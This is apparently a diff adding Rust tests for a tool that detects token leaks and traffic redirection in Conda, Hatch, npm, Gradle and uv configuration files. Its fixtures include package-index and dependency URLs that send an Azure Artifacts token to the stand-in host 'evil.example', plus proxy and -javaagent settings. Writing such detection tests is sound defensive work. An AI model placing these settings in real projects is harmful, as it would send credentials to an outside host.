@@ -86,6 +86,31 @@ fn a_variable_of_a_client_that_holds_the_token_is_guarded_in_every_file() {
 }
 
 #[test]
+fn hatch_sends_condas_variable_nowhere_else() {
+    const ALIAS: &str =
+        "channel_alias: https://t:${ARTIFACTS_CONDA_TOKEN}@pkgs.dev.azure.com/contoso/_packaging/f/Conda/repo/";
+    let index = |reference: &str, host: &str| {
+        format!("PIP_EXTRA_INDEX_URL = 'https://t:{reference}@{host}/contoso/_packaging/f/pypi/simple/'\n")
+    };
+    for reference in ["{env:ARTIFACTS_CONDA_TOKEN}", "{env:ARTIFACTS_CONDA_{env:X:TOKEN}}"] {
+        let set = index(reference, "evil.example");
+        for (path, text) in [
+            ("hatch.toml", format!("[envs.x.env-vars]\n{set}")),
+            ("pyproject.toml", format!("[tool.hatch.envs.x.env-vars]\n{set}")),
+            ("pyproject.toml", format!("[project]\ndependencies = ['a @ https://evil.example/{reference}/a.whl']\n")),
+        ] {
+            let error = Case { files: &[(".condarc", ALIAS), (path, &text)], ..Case::default() }.result().unwrap_err();
+            assert!(
+                matches!(error, PlanError::Leak { .. }) && error.to_string().contains("ARTIFACTS_CONDA_TOKEN"),
+                "{error}"
+            );
+        }
+    }
+    let ours = format!("[envs.x.env-vars]\n{}", index("{env:ADO_ENTRA_TOKEN}", "pkgs.dev.azure.com"));
+    assert!(Case { files: &[(".condarc", ALIAS), ("hatch.toml", &ours)], ..Case::default() }.result().is_ok());
+}
+
+#[test]
 fn a_setting_that_leads_npm_elsewhere_is_named_with_its_line_and_what_to_do() {
     for (setting, words) in [
         ("proxy=http://evil.example:8080", ["sends the traffic through a proxy", "HTTPS_PROXY"]),
@@ -95,6 +120,38 @@ fn a_setting_that_leads_npm_elsewhere_is_named_with_its_line_and_what_to_do() {
         let said = warnings(&Case { files: &[(".npmrc", &text)], ..Case::default() }.outcome());
         let [said] = said.as_slice() else { panic!("{said:?}") };
         assert!(said.starts_with("npm: .npmrc line 2 ") && words.iter().all(|word| said.contains(word)), "{said}");
+    }
+}
+
+#[test]
+fn settings_of_one_file_with_one_remedy_are_told_in_one_line() {
+    let feed = "feed=https://pkgs.dev.azure.com/contoso/_packaging/f/maven/v1\n";
+    let text = format!(
+        "{feed}systemProp.https.proxyHost=a\nsystemProp.https.proxyHost=b\norg.gradle.java.home=jdk\norg.gradle.jvmargs=-javaagent:a"
+    );
+    let many = "systemProp.https.proxyHost=a\n".repeat(50);
+    let files = [("build.gradle", feed), ("gradle.properties", text.as_str()), ("b/gradle.properties", &many)];
+    let proxy = "sends Gradle's traffic through a proxy (systemProp.https.proxyHost)";
+    let ends = "so gradle gets no token; remove that setting, or let the pipeline set it in a variable";
+    let too = (2..9).map(|line| format!(", line {line} too")).collect::<Vec<_>>().concat();
+    assert_eq!(
+        warnings(&Case { files: &files, ..Case::default() }.outcome()),
+        [
+            format!(
+                "gradle: gradle.properties line 2 {proxy}, line 3 too, line 4 sets the Java of Gradle (org.gradle.java.home), line 5 \
+                 loads code into Gradle (-javaagent:a), {ends}"
+            ),
+            format!("gradle: b/gradle.properties line 1 {proxy}{too}, and others, {ends}"),
+        ]
+    );
+}
+
+#[test]
+fn of_requirements_uv_speaks_only_where_the_user_names_it() {
+    let files = [("requirements.txt", "-i https://pkgs.dev.azure.com/contoso/_packaging/f/pypi/simple/\n")];
+    for (named, count) in [(&[][..], 0), (&["pip"], 0), (&["uv"], 1), (&["pip", "uv"], 1)] {
+        let said = warnings(&Case { files: &files, named, ..Case::default() }.outcome());
+        assert_eq!(said.iter().filter(|said| said.starts_with("uv: ")).count(), count, "{named:?}: {said:?}");
     }
 }
 
